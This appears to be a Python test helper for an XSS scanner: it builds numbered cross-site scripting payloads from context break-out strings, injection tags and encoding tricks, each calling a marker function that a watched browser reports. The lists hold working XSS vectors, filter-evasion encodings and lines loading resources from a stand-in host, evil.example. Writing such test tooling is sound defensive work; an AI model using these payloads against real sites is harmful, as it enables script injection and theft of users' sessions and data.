"""Texts that become code where somebody forgot to escape: breaking out of a context, by some tag, written in some way.

Each calls `__xss(number)`, which a watched browser knows, so that it can be told which one fired.
"""

import random
from collections.abc import Callable
from html import escape
from urllib.parse import quote

BREAKS = (
    *("", '">', "'>", "-->", "</script>", "</title>", "</textarea>", "</style>", "]]>", "`>", '\\">', "</svg>"),
    *("</template>", "</noscript>", "</option></select>", '" ', "' ", "\n>"),
)
TAGS = (
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<script>{call}</script>",
    "<svg><script>{call}</script>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<input autofocus onfocus={call}>",
    "<body onpageshow={call}>",
    "<a href=javascript:{call}>x</a>",
    "<object data=javascript:{call}>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<p hx-get=/more hx-trigger=load hx-on:click={call}>x",
    "<audio src=x onerror={call}>",
    "<style>@import '//evil.example/x'</style>",
    "onmouseover={call} x=",
    "autofocus onfocus={call} x=",
    "javascript:{call}",
    "{{{{ 7*7 }}}}{{% for x in y %}}{call}",
    "${{{call}}}",
    "';{call};//",
    '";{call};//',
    "\u2028{call}//",
)
WRITTEN: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: "".join(sign.upper() if n % 2 else sign for n, sign in enumerate(text)) if "<" in text else text,
    lambda text: text.replace("<img ", "<img/").replace("<svg ", "<svg\t").replace("<video", "<video\n"),
    lambda text: escape(text, quote=True),
    lambda text: quote(text, safe="()/"),
    lambda text: text.translate(str.maketrans("<>\"'", "＜＞＂＇")),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "&lt;").replace("&lt;", "&#x3c;"),
    lambda text: text.replace("<", "<\u200b", 1) if text.startswith("<") else "\u202e" + text,
)


def payload(number: int) -> str:
    """One of them; the same number gives the same."""
    draw = random.Random(number)
    tag = TAGS[number % len(TAGS)]
    break_out = BREAKS[(number // len(TAGS)) % len(BREAKS)]
    text = break_out + tag.format(call=f"__xss({number})")
    return draw.choice(WRITTEN[:3])(text) if draw.random() < 0.6 else draw.choice(WRITTEN)(text)


def fired_by(number: int) -> str:
    """What works on a page that escapes nothing, for sure: for controls."""
    return f"x<img src=x onerror=__xss({number})>"
